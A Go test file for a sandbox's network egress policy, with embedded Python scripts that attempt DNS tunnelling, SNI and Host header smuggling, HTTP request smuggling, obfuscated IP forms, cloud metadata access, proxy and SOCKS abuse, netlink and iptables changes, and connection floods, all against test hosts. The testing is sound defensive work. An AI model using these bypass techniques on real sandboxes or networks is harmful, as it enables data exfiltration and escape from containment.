package attack

import (
	"bufio"
	"context"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/recluse-dev/recluse/internal/dockertest"
	"github.com/recluse-dev/recluse/internal/testneed"
	"github.com/recluse-dev/recluse/sandbox"
)

// connected returns a sandbox with the policy of the tests.
func connected(t *testing.T) *sandbox.Sandbox {
	t.Helper()
	need(t)
	return fresh(t, connectedSpec(t.Context()))
}

func connectedSpec(ctx context.Context) sandbox.Spec {
	spec := small()
	spec.Limits.OpenFiles = 4096
	spec.Network = outside.rules(listedPorts(ctx))
	return spec
}

// listedPorts reports whether the guest cannot redirect connections: names lead to its own listeners on loopback.
func listedPorts(ctx context.Context) bool {
	return backend.Capabilities(ctx).Egress == sandbox.EgressListedPorts
}

// egressTools are functions for attacks. attempt prints one line for each.
const egressTools = `
import os, socket, ssl, struct, threading, time
def attempt(name, f, *args):
    try: r = f(*args)
    except Exception as e: r = type(e).__name__ + ' ' + str(e)
    print(name, '->', r)
def talk(host, port, data, first=False):
    'sends bytes and returns what the other side answers, or only the first of it'
    with socket.create_connection((host, port), 10) as s:
        got = b''
        try:
            s.sendall(data)
            while chunk := s.recv(65536):
                got += chunk
                if first: break
        except OSError as e: got += type(e).__name__.encode()
        return got
def request(host, lines, body='', name='allowed.test'):
    return talk(name, 80, ('\r\n'.join(lines + ['Host: ' + host] * bool(host) + ['Connection: close', '', '']) + body).encode('latin1'))
def hello(name):
    c = ssl._create_unverified_context(); i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    try: c.wrap_bio(i, o, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: pass
    return o.read()
def records(message, size):
    return b''.join(b'\x16\x03\x01' + struct.pack('>H', len(message[i:i+size])) + message[i:i+size] for i in range(0, len(message), size))
def extend(h, kind, data):
    'adds an extension to a ClientHello'
    p = 5 + 4 + 2 + 32
    p += 1 + h[p]; p += 2 + int.from_bytes(h[p:p+2], 'big'); p += 1 + h[p]
    e = h[p+2:] + struct.pack('>HH', kind, len(data)) + data
    body = h[9:p] + struct.pack('>H', len(e)) + e
    return records(b'\x01' + len(body).to_bytes(3, 'big') + body, 1 << 14)
def tls(data, name='allowed.test'):
    got = talk(name, 443, data, True)
    return 'REACHED' if got[:1] == b'\x16' else got[:40]
def dns(labels, typ=1, server='127.0.0.1', tcp=False, raw=None):
    'asks a name server, and returns the code, the number of answers and the last address'
    q = raw or struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l for l in labels) + b'\0' + struct.pack('>2H', typ, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
        s.settimeout(10); s.connect((server, 53))
        s.sendall(struct.pack('>H', len(q)) * tcp + q)
        a = s.recv(2048)[2 * tcp:]
        return a[3] & 15, a[7], '.'.join(map(str, a[-4:]))
`

// TestEgress tries to reach what the policy denies, and to carry data out in what it allows.
func TestEgress(t *testing.T) {
	testneed.Parallel(t)
	sb := connected(t)
	outside.serve(t)
	py(t, sb, egressTools)
	for _, a := range []struct{ name, code string }{
		{"names", attackNames}, {"addresses", attackAddresses}, {"HTTP", attackHTTP}, {"TLS", attackTLS}, {"packets", attackPackets}, {"proxies", attackProxies},
	} {
		// In containers, the way of a connection to the host differs, and not what the host does with it.
		if dockertest.Chosen() && !testneed.AllTests() && a.name != "names" && a.name != "packets" {
			continue
		}
		t.Run(a.name, func(t *testing.T) {
			underSiege(t, sb, func() {
				names := "198."
				if listedPorts(t.Context()) {
					names = "127."
				}
				code := strings.NewReplacer(
					"INNER", outside.inner.String(), "DENIED", outside.denied.String(), "NAMES", names,
				).Replace(a.code)
				out := py(t, sb, code)
				t.Log(out)
				tried := 0
				for line := range strings.Lines(out) {
					name, got, ok := strings.Cut(strings.TrimSpace(line), " -> ")
					if !ok {
						continue
					}
					tried++
					if isRoot() && strings.HasPrefix(name, "/") {
						continue // a file, which root may change; what follows shows that this changes nothing
					}
					if want := strings.HasPrefix(name, "allowed:"); want != strings.Contains(got, "REACHED") {
						t.Errorf("%s: %s", name, got)
					}
				}
				if tried < 10 {
					t.Errorf("only %d attempts", tried)
				}
			})
			outside.check(t)
		})
	}
}

// attackNames tries names: as a channel out, and such that programs read differently.
const attackNames = `
attempt('allowed: a name', request, 'allowed.test', ['GET / HTTP/1.1'])
attempt('allowed: mixed case and a final dot', lambda: request('ALLOWED.test', ['GET / HTTP/1.1'], name='AlloWed.Test.'))
attempt('allowed: a subdomain', lambda: request('x.wild.test', ['GET / HTTP/1.1'], name='x.wild.test'))
for name in ['denied.test', 'evilallowed.test', 'allowed.test.evil.test', 'allowed.testx', 'wild.test', 'xwild.test', 'wild.test.denied.test',
             'allowed-test', 'xn--llowed-2wf.test', '\u0430llowed.test', 'allowed\u3002denied.test', 'dns.google', 'one.one.one.one', 'allowed']:
    attempt(name, lambda: request(name.encode('idna').decode(), ['GET / HTTP/1.1'], name=name))
for labels in [[b'allowed.test'], [b'allowed', b'test\0'], [b'allowed\0', b'test'], [b'denied\0.allowed', b'test'], [b'allowed', b'test', b'denied\x2etest'],
               [b'denied.wild', b'test'], [b'\xff\xfe', b'test'], [b'x' * 63, b'y' * 63, b'z' * 63, b'secret', b'test'], [b'a b', b'denied', b'test']]:
    attempt(repr(labels)[:60], dns, labels)
import base64
for i in range(100): # a tunnel
    dns([base64.b32encode(os.urandom(35)).strip(b'='), b'denied', b'test'], [1, 5, 10, 16, 28, 65, 255][i % 7])
attempt('to another server', dns, [b'denied', b'test'], 16, '8.8.8.8')
attempt('over TCP', dns, [b'denied', b'test'], 16, '127.0.0.1', True)
attempt('over TCP to another server', dns, [b'denied', b'test'], 16, '1.1.1.1', True)
attempt('to the denied server', dns, [b'denied', b'test'], 16, 'DENIED')
attempt('keys for ECH', lambda: 'REACHED' if dns([b'allowed', b'test'], 65)[1] else 'none')
attempt('IPv6', lambda: 'REACHED' if dns([b'allowed', b'test'], 28)[1] else 'none')
# Malformed messages: the guest must go on.
bad = [b'', b'\0', os.urandom(12), struct.pack('>6H', 7, 256, 65535, 65535, 65535, 65535), struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\xc0\x0c\0\1\0\1',
       struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\x3fabc', struct.pack('>6H', 7, 0x8180, 1, 0, 0, 0) + b'\6denied\4test\0\0\1\0\1',
       struct.pack('>6H', 7, 0x2900, 1, 0, 0, 0) + b'\6denied\4test\0\0\1\0\1', struct.pack('>6H', 7, 256, 2, 0, 0, 0) + (b'\6denied\4test\0\0\1\0\1' * 2)]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for m in bad + [os.urandom(n * 5) for n in range(200)]: u.sendto(m, ('127.0.0.1', 53))
held = []
for m in bad:
    s = socket.create_connection(('127.0.0.1', 53)); held.append(s)
    s.sendall(struct.pack('>H', 65535) + m) # and never the rest
attempt('allowed: DNS after malformed messages', lambda: 'REACHED' if dns([b'allowed', b'test'])[2].startswith('NAMES') else '')
attempt('allowed: DNS over TCP beside clients that stall', lambda: 'REACHED' if dns([b'allowed', b'test'], tcp=True)[2].startswith('NAMES') else '')
for s in held: s.close()
`

// attackAddresses tries addresses instead of names, and names whose addresses are special.
const attackAddresses = `
def number(a): return struct.unpack('>I', socket.inet_aton(a))[0]
def forms(a):
    p = a.split('.')
    return [a, str(number(a)), hex(number(a)), '0' + oct(number(a))[2:], '.'.join('0' + oct(int(x))[2:] for x in p), '.'.join(map(hex, map(int, p))),
            p[0] + '.' + str(number(a) & 0xffffff), '::ffff:' + a, '::' + a, '64:ff9b::' + a, '2002:%x:%x::' % (number(a) >> 16, number(a) & 65535)]
get = b'GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n'
for address in ['INNER', 'DENIED', '169.254.169.254', '100.100.100.200', '10.0.0.1', '198.18.0.1', '198.19.255.254']:
    for form in forms(address): attempt(form, talk, form, 80, get)
    for port in (22, 53, 443, 853, 7000): attempt('%s:%d' % (address, port), talk, address, port, get)
for a in ['8.8.8.8', '1.1.1.1', '240.0.0.1', '0.0.0.0', '127.0.0.1', '::1', 'fd00:ec2::254', '2001:4860:4860::8888']:
    for port in (80, 443, 853): attempt('%s:%d' % (a, port), talk, a, port, get)
for n in ['inner', 'mapped', 'nat64', 'sixtofour', 'zero', 'loopback', 'metadata']: # as after rebinding
    name = n + '.floor.test'
    attempt(name, lambda: request(name, ['GET / HTTP/1.1'], name=name))
    for port in (22, 7000): attempt('%s:%d' % (name, port), talk, name, port, get)
attempt('allowed: a name with a good address among others', lambda: request('mixed.test', ['GET / HTTP/1.1'], name='mixed.test'))
for port in (22, 8080, 7003): attempt('allowed.test:%d' % port, talk, 'allowed.test', port, get)
attempt('allowed: another port', lambda: talk('allowed.test', 7002, b''))
import urllib.request
for to in ('denied', 'inner', 'metadata', 'port'):
    attempt('redirect to ' + to, lambda: urllib.request.urlopen('http://allowed.test/?to=' + to, timeout=10).read())
# The guest's own listeners are no way around.
for line in open('/proc/net/tcp').readlines()[1:]:
    address, state = line.split()[1], line.split()[3]
    if state == '0A': attempt('listener ' + address, talk, '127.0.0.1', int(address[-4:], 16), b'\0\0')
`

// attackHTTP sends requests to other hosts on connections to an allowed one.
const attackHTTP = `
S = 'GET /secret-of-a-mismatch HTTP/1.1'
attempt('allowed: a path', request, 'allowed.test', ['GET /a HTTP/1.1'])
attempt('allowed: a port in Host', request, 'allowed.test:80', ['GET /a HTTP/1.1'])
attempt('allowed: an absolute target', request, 'allowed.test', ['GET http://allowed.test/b HTTP/1.1'])
for host in ['denied.test', 'allowed.test:7000', 'allowed.test@denied.test', 'allowed.test denied.test', 'allowed.test\0', 'allowed.test,denied.test', 'evilallowed.test',
             'allowed.test.denied.test', 'allowed.test/denied.test', '[::1]', '169.254.169.254', 'allowed.test#', '']:
    attempt('Host %r' % host, request, host, [S])
for line in ['GET http://denied.test/secret-of-a-mismatch HTTP/1.1', 'GET //denied.test/../secret-of-a-mismatch HTTP/0.9', 'CONNECT denied.test:443 HTTP/1.1', 'CONNECT allowed.test:22 HTTP/1.1',
             'GET http://allowed.test@denied.test/secret-of-a-mismatch HTTP/1.1', 'GET http://denied.test\\@allowed.test/secret-of-a-mismatch HTTP/1.1',
             'PRI * HTTP/2.0', 'GET /secret-of-a-mismatch', 'get /secret-of-a-mismatch HTTP/1.1', 'GET\t/secret-of-a-mismatch HTTP/1.1', 'GET ftp://allowed.test/secret-of-a-mismatch HTTP/1.1']:
    attempt(line, request, 'allowed.test', [line])
for name, lines in {'two hosts': ['Host: denied.test'], 'a folded host': ['Host:', ' denied.test'], 'a space before the colon': ['Host : denied.test'], 'a bare LF': ['X: y\nHost: denied.test'],
                    'a bare CR': ['X: y\rHost: denied.test'], 'a header without a colon': ['Host denied.test'], 'a NUL': ['X: \0'], 'two lengths': ['Content-Length: 0', 'Content-Length: 5'],
                    'length and chunks': ['Content-Length: 4', 'Transfer-Encoding: chunked'], 'chunks twice': ['Transfer-Encoding: chunked, chunked'], 'an odd length': ['Content-Length: +4'],
                    'identity': ['Transfer-Encoding: identity']}.items():
    attempt(name, request, 'allowed.test', [S] + lines)
# A second request on the connection, in each place where it could hide. The first may be answered.
second = 'GET /secret-of-a-mismatch HTTP/1.1\r\nHost: denied.test\r\n\r\n'
first = 'POST /first HTTP/1.1\r\nHost: allowed.test\r\n'
for name, text in {'pipelined': first + '\r\n' + second, 'after a length': first + 'Content-Length: 2\r\n\r\nab' + second, 'after chunks': first + 'Transfer-Encoding: chunked\r\n\r\n2\r\nab\r\n0\r\n\r\n' + second,
                   'after a trailer': first + 'Transfer-Encoding: chunked\r\n\r\n0\r\nX: y\r\n\r\n' + second, 'after a size that overflows': first + 'Transfer-Encoding: chunked\r\n\r\n10000000000000002\r\nab\r\n0\r\n\r\n' + second,
                   'after an upgrade': first + 'Connection: upgrade\r\nUpgrade: websocket\r\n\r\n' + second, 'after h2c': first + 'Connection: upgrade\r\nUpgrade: h2c\r\n\r\n' + second}.items():
    attempt(name, lambda: talk('allowed.test', 80, text.encode()).replace(b'REACHED /first', b'first'))
attempt('a head of 100 KB', request, 'allowed.test', [S, 'X: ' + 'y' * 100000])
attempt('to a denied name', lambda: request('allowed.test', [S], name='denied.test'))
`

// attackTLS sends handshakes for other hosts on connections to an allowed one.
const attackTLS = `
good = hello('allowed.test')
def sni(name): return struct.pack('>HBH', len(name) + 3, 0, len(name)) + name
attempt('allowed: a handshake', tls, good)
attempt('allowed: mixed case', tls, good.replace(b'allowed.test', b'ALLOWED.tEsT'))
attempt('allowed: fragments', tls, records(good[5:], 7))
attempt('allowed: a large one', tls, extend(good, 0xfafa, bytes(8000)))
for name, h in {'another name': hello('denied.test'), 'no name': hello(None), 'an address': hello('127.0.0.1'), 'a suffix': hello('evilallowed.test'), 'a prefix': hello('allowed.test.denied.test'),
                'a final NUL': good.replace(b'allowed.test', b'denied.test\0'), 'NUL inside': good.replace(b'allowed.test', b'allowed\0test'), 'a dot': good.replace(b'allowed.test', b'denied.test.'),
                'fragments of another name': records(hello('denied.test')[5:], 7), 'two name extensions': extend(good, 0, sni(b'denied.test')), 'an empty second one': extend(good, 0, b''),
                'two names': extend(hello(None), 0, struct.pack('>HBH', 30, 0, 12) + b'allowed.test' + struct.pack('>BH', 0, 11) + b'denied.test'),
                'a name of another kind': extend(hello(None), 0, struct.pack('>HBH', 15, 1, 12) + b'allowed.test'),
                'ECH': extend(good, 0xfe0d, b'\0\0\1\0\1\0\0\x20' + os.urandom(32) + b'\0\x20' + os.urandom(32)), 'oversized': extend(good, 0xfafa, bytes(40000)),
                'a length that lies': good[:6] + b'\xff\xff\xff' + good[9:], 'an empty record': b'\x16\x03\x01\0\0' + good, 'SSL 2': b'\x80\x2e\1\0\2' + bytes(40), 'random bytes': os.urandom(300),
                'SSH': b'SSH-2.0-x\r\n', 'HTTP': b'GET /secret-of-a-mismatch HTTP/1.1\r\nHost: denied.test\r\n\r\n'}.items():
    attempt(name, tls, h)
for name in ['denied.test', 'dns.google', 'cloudflare-dns.com', 'inner.floor.test', 'metadata.floor.test']: # DoH
    attempt('to ' + name, tls, hello(name), name)
for name in ['dns.google', 'one.one.one.one', 'allowed.test', 'inner.floor.test']: # DoT
    attempt('DoT to ' + name, talk, name, 853, hello(name))
`

// attackPackets tries everything that is not a TCP connection, and to change the network inside.
const attackPackets = `
import ctypes
def datagram(address, port, kind=socket.SOCK_DGRAM, proto=0, data=b'x'):
    with socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, kind, proto) as s:
        s.settimeout(20)
        try:
            s.connect((address, port)); s.send(data); s.recv(1)
            return 'REACHED'
        except TimeoutError: return 'REACHED nothing, but nothing has refused it' # a refusal comes at once
        except OSError as e: return repr(e)
initial = b'\xc3\0\0\0\1\x08' + os.urandom(8) + b'\0\0\x44\xb0' + bytes(1200) # QUIC
for a in ['DENIED', 'INNER', '8.8.8.8', '169.254.169.254', '198.18.0.1', '::ffff:8.8.8.8', '2001:4860:4860::8888', socket.gethostbyname('allowed.test'), socket.gethostbyname('denied.test')]:
    attempt('QUIC ' + a, lambda: datagram(a, 443, data=initial))
    attempt('ICMP ' + a, lambda: datagram(a, 0, socket.SOCK_DGRAM, 58 if ':' in a else 1, b'\x08\0\0\0\0\0\0\0'))
def raw(family, kind, proto): socket.socket(family, kind, proto).close(); return 'REACHED'
def netlink(typ, body, proto=0):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto) as s:
        s.settimeout(3); s.bind((0, 0))
        s.send(struct.pack('=IHHII', 16 + len(body), typ, 0x605, 1, 0) + body)
        code = struct.unpack('=i', s.recv(4096)[16:20])[0]
        return 'REACHED' if code == 0 else os.strerror(-code)
def tables(kind):
    with socket.socket(socket.AF_INET, kind, 255 if kind == socket.SOCK_RAW else 0) as s:
        s.setsockopt(socket.SOL_IP, 64, struct.pack('=32s5I', b'nat', 0, 0, 0, 0, 0) + bytes(60)); return 'REACHED'
def changes():
    for family, kind, proto in [(2, 3, 255), (2, 3, 6), (2, 3, 1), (10, 3, 58), (17, 3, 0x300), (17, 2, 0x800)]:
        attempt('socket %d %d %d' % (family, kind, proto), raw, family, kind, proto)
    lo = struct.pack('=I', 1)
    attempt('an address', netlink, 20, struct.pack('=BBBB', 2, 8, 0, 0) + lo + struct.pack('=HH4s', 8, 2, socket.inet_aton('10.9.8.7')))
    attempt('the route', netlink, 25, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack('=HHI', 8, 4, 1))
    attempt('an interface', netlink, 16, struct.pack('=BBHiII', 0, 0, 0, 0, 1, 1) + struct.pack('=HH8s', 12, 3, b'eth7'))
    attempt('nftables', netlink, 10 << 8, struct.pack('=BBHHH4s', 2, 0, 0, 8, 1, b'own'), 12)
    attempt('iptables', tables, socket.SOCK_RAW)
    attempt('iptables on a stream', tables, socket.SOCK_STREAM)
    for f in ['/proc/sys/net/ipv4/ip_forward', '/etc/resolv.conf', '/proc/sys/net/ipv4/ip_unprivileged_port_start']:
        attempt(f, lambda: open(f, 'r+').write('1') and 'REACHED')
def in_child(f):
    r, w = os.pipe()
    if (pid := os.fork()) == 0:
        import sys
        sys.stdout = os.fdopen(w, 'w')
        try: f()
        finally: sys.stdout.flush(); os._exit(0)
    os.close(w); os.waitpid(pid, 0)
    with open(r) as p: return p.read()
changes()
def as_root_of_a_namespace(): # with all capabilities, but not over the network of the sandbox
    if ctypes.CDLL(None).unshare(0x10000000): print('no user namespaces -> refused')
    else: changes()
print(in_child(as_root_of_a_namespace))
attempt('allowed: a name after all that', request, 'allowed.test', ['GET / HTTP/1.1'])
attempt('a denied one', lambda: request('denied.test', ['GET / HTTP/1.1'], name='denied.test'))
`

// attackProxies asks the proxies inside for what the policy denies.
const attackProxies = `
get = b'GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n'
def connect(to, then=get): return talk('127.0.0.1', 3128, b'CONNECT ' + to.encode('latin1') + b' HTTP/1.1\r\n\r\n' + then)
attempt('allowed: CONNECT', connect, 'allowed.test:7002', b'')
for to in ['denied.test:80', 'denied.test:443', 'INNER:80', 'DENIED:7000', 'inner.floor.test:80', 'metadata.floor.test:80', 'allowed.test:22', '[::1]:80', '127.0.0.1:53', '127.0.0.1:3128',
           '0.0.0.0:80', '169.254.169.254:80', '2130706433:80', '0x7f.1:80', '[::ffff:169.254.169.254]:80', '[::ffff:INNER]:80', 'allowed.test@denied.test:80', 'allowed.test:80@denied.test:443',
           'denied.test.:80', 'allowed.test\0.denied.test:80', 'http://denied.test:80', 'denied.test', ':80', 'allowed.test:70080']:
    attempt('CONNECT ' + repr(to), connect, to)
attempt('CONNECT, another Host', connect, 'allowed.test:80', b'GET /secret-of-a-mismatch HTTP/1.1\r\nHost: denied.test\r\n\r\n')
attempt('CONNECT, another name', lambda: 'REACHED' if b'\x16\x03' in connect('allowed.test:443', hello('denied.test')) else 'refused')
def through(line, *headers): return talk('127.0.0.1', 3128, '\r\n'.join([line, *headers, '', '']).encode('latin1'))
attempt('allowed: a URL', through, 'GET http://allowed.test/a HTTP/1.1', 'Host: denied.test') # which is not sent on
for url in ['http://denied.test/secret-of-a-mismatch', 'http://INNER/', 'http://allowed.test:22/', 'http://allowed.test@denied.test/', 'http://denied.test\\@allowed.test/', 'http://allowed.test\\@denied.test/',
            'http://denied.test#@allowed.test/', 'ftp://allowed.test/', 'https://allowed.test/', '/a', '//allowed.test/', 'http://[::1]/', 'http://2852039166/', 'http:allowed.test/', 'http://']:
    attempt('GET ' + url, through, 'GET ' + url + ' HTTP/1.1')
first = 'GET http://allowed.test/first HTTP/1.1'
for name, lines in {'a second URL': [first, '', 'GET http://denied.test/secret-of-a-mismatch HTTP/1.1'], 'a second request': [first, '', 'GET /secret-of-a-mismatch HTTP/1.1', 'Host: denied.test'],
                    'two lengths': [first, 'Content-Length: 0', 'Content-Length: 60', '', 'GET /secret-of-a-mismatch HTTP/1.1', 'Host: denied.test'],
                    'chunks': [first, 'Transfer-Encoding: chunked', '', '0', '', 'GET /secret-of-a-mismatch HTTP/1.1', 'Host: denied.test'],
                    'a bare CR': [first, 'X: y\rHost: denied.test'], 'a folded line': [first, 'X: y', ' Host: denied.test\0']}.items():
    attempt(name, lambda: through(*lines).replace(b'REACHED /first', b'first'))
def socks(kind, address, port=80, command=1, then=get):
    return talk('127.0.0.1', 1080, b'\5\1\0' + bytes([5, command, 0, kind]) + address + struct.pack('>H', port) + then)
def label(n): return bytes([len(n)]) + n
attempt('allowed: SOCKS', socks, 3, label(b'allowed.test'), 7002, 1, b'')
for n in [b'denied.test', b'inner.floor.test', b'metadata.floor.test', b'allowed.test\0.denied.test', b'denied.test\0allowed.test', b'127.0.0.1', b'2130706433', b'INNER', b'localhost', b'', b'x' * 255]:
    attempt('SOCKS %r' % n[:40], socks, 3, label(n))
for a in ['INNER', 'DENIED', '169.254.169.254', '127.0.0.1', '0.0.0.0']:
    b = socket.inet_aton(a)
    for kind, form in [(1, b), (4, bytes(10) + b'\xff\xff' + b), (4, bytes(12) + b), (4, b'\0\x64\xff\x9b' + bytes(8) + b), (4, b'\x20\2' + b + bytes(10))]: attempt('SOCKS ' + repr(form), socks, kind, form)
for command in (0, 2, 3, 255): attempt('SOCKS, command %d' % command, socks, 3, label(b'allowed.test'), 7002, command)
attempt('SOCKS 4', talk, '127.0.0.1', 1080, b'\4\1\0\x50' + socket.inet_aton('DENIED') + b'\0')
attempt('SOCKS with a password', talk, '127.0.0.1', 1080, b'\5\1\2\1\1a\1b')
attempt('allowed: HTTP after all that', connect, 'allowed.test:7002', b'')
`

// floodLimit is how long one flood may take on a busy machine.
const floodLimit = 3 * time.Minute

// TestEgressFloods opens more connections than the limits allow, and reads and sends as little as possible on them.
func TestEgressFloods(t *testing.T) {
	testneed.Parallel(t)
	sb := connected(t)
	outside.serve(t)
	for _, f := range []struct {
		name, code string
		variant    bool // only make test-all runs it
	}{
		{name: "connections that send nothing", code: "flood(400, 'allowed.test', 443, b'')"},
		{name: "to a denied name", code: "flood(400, 'denied.test', 80, b'')"},
		{name: "that never read", code: "flood(100, 'allowed.test', 7001, b'x')"},
		{name: "1,000 that never read", code: "flood(1000, 'allowed.test', 7001, b'x', pause=0.1)\nalive(900)", variant: true},
		{name: "1,000 that read no more", code: "flood(1000, 'allowed.test', 7001, b'x', pause=0.1, read=1 << 18)\nalive(900)", variant: true},
		{name: "1,000 that send what is never read", code: "flood(1000, 'allowed.test', 7004, bytes(1 << 20), pause=0.1)", variant: true},
		{name: "half of a ClientHello", code: "flood(400, 'allowed.test', 443, hello('allowed.test')[:100])", variant: true},
		{name: "half of a request", code: "flood(400, 'allowed.test', 80, b'GET / HT')", variant: true},
		{name: "half closed", code: "flood(400, 'allowed.test', 7000, b'x', True)", variant: true},
		{name: "10,000 connections", code: "for i in range(5): flood(2000, 'allowed.test', 7000, b'')", variant: true},
		{name: "queries of DNS", code: "for i in range(5000): dns([b'n%d' % i, b'denied', b'test'])", variant: true},
	} {
		if f.variant && !testneed.AllTests() {
			continue
		}
		t.Run(f.name, func(t *testing.T) {
			underSiege(t, sb, func() {
				code := egressTools + egressFlood + f.code + "\nfor s in held: s.close()"
				v := cell(t, sb, sandbox.Cell{Code: code, RunOptions: sandbox.RunOptions{Timeout: floodLimit}})
				if !v.OK() {
					t.Fatalf("%s: %+v", v, v.Error)
				}
			})
			out := py(t, sb, egressTools+egressFlood+"attempt('after the flood', lambda: eventually(lambda: talk('allowed.test', 7002, b'')))")
			contains(t, out, "REACHED")
		})
	}
	outside.check(t)
}

// egressFlood opens connections and keeps them.
const egressFlood = `
held = []
def flood(n, host, port, data, half=False, pause=0, read=0):
    def some():
        for _ in range(n // 20):
            time.sleep(pause) # 0.1: below the limit of the rate
            s = socket.socket()
            s.settimeout(10)
            try:
                s.connect((host, port))
                try: s.settimeout(10 if read else 0.2); s.sendall(data)
                except TimeoutError: pass # the other side does not read
                left = read
                while left > 0: left -= len(s.recv(65536)) or left
                if half: s.shutdown(socket.SHUT_WR)
            except OSError: s.close()
            else: held.append(s)
    threads = [threading.Thread(target=some) for _ in range(20)]
    for t in threads: t.start()
    for t in threads: t.join()
def alive(least):
    'checks that so many connections have something to read'
    def readable(s):
        try: return len(s.recv(1, socket.MSG_PEEK))
        except OSError: return 0
    n = sum(map(readable, held))
    assert n >= least, (n, len(held))
def eventually(f):
    'the rate of new connections is limited'
    for end in iter(lambda e=time.time() + 30: e, None):
        if (r := f()) == b'REACHED' or time.time() > end: return r
        time.sleep(0.1)
`

// busyInside connects on and on, and writes what became of it to a file.
const busyInside = `
import threading
results, live = open('/tmp/egress', 'a', 1), socket.create_connection(('allowed.test', 7000), 20)
live.settimeout(300)
def on_and_on():
    while True:
        for name in ('allowed.test', 'denied.test', 'inner.floor.test'):
            try: r = talk(name, 7002 if name == 'allowed.test' else 7000, b'')
            except OSError as e: r = e
            results.write('%s %s\n' % (name, r))
            time.sleep(0.005)
def keep():
    try: r = live.recv(1)
    except OSError as e: r = e
    results.write('live %r\n' % r)
for f in (on_and_on, keep): threading.Thread(target=f, daemon=True).start()
`

// serverEnv makes this program a server that is killed: it makes a sandbox, and prints its ID when code in it connects.
const serverEnv = "RECLUSE_ATTACK_SERVER"

func server() error {
	ctx := context.Background()
	dataDir = os.Getenv(serverEnv)
	if err := prepare(); err != nil {
		return err
	}
	spec := connectedSpec(ctx)
	spec.Persist = true
	sb, err := sandbox.Open(ctx, backend, spec)
	if err != nil {
		return err
	}
	if v, err := sb.Cell(ctx, sandbox.Cell{Code: egressTools + busyInside}); err != nil || !v.OK() {
		return fmt.Errorf("%v, %w", v, err)
	}
	fmt.Println(sb.ID())
	select {} // until it is killed
}

// TestEgressWithoutItsServer kills the server while code inside connects on and on. Afterwards another one attaches,
// takes a snapshot and restores it. The policy is in force at all times.
func TestEgressWithoutItsServer(t *testing.T) {
	testneed.Parallel(t)
	need(t)
	outside.serve(t)
	cmd := exec.CommandContext(t.Context(), os.Args[0])
	cmd.Env = append(os.Environ(), serverEnv+"="+dataDir, netEnv+"="+outside.open.String())
	cmd.Stderr = os.Stderr
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	id, err := bufio.NewReader(stdout).ReadString('\n')
	if err != nil {
		t.Fatal(err, cmd.Wait())
	}
	ctx := context.Background() // the sandbox must not stay
	if err := cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait() // reports the signal
	sb, err := sandbox.Attach(ctx, backend, strings.TrimSpace(id))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sb.Close() }()
	connects := func(when string) {
		t.Helper()
		sh(t, sb, "echo "+when+" >> /tmp/egress")
		var text string
		testneed.Await(t, when+" code inside connects again", func() bool {
			text = sh(t, sb, "cat /tmp/egress")
			_, after, _ := strings.Cut(text, when+"\n")
			return strings.Contains(after, "allowed.test b'REACHED'") && strings.Contains(after, "denied.test")
		})
		contains(t, text, "live ")
		for line := range strings.Lines(text) {
			if !strings.HasPrefix(line, "allowed.test ") {
				lacks(t, line, "REACHED")
			}
		}
	}
	connects("after-the-kill")
	snap, err := sb.Snapshot(ctx, sandbox.SnapshotOptions{Stop: true})
	if err != nil {
		t.Fatal(err)
	}
	restored, err := sandbox.Restore(ctx, backend, snap, sandbox.RestoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	_ = sb.Close() // it has stopped
	sb = restored
	if dockertest.Chosen() { // snapshots of containers hold files alone
		py(t, sb, egressTools+busyInside)
	}
	connects("after-the-restore")
	outside.check(t)
}
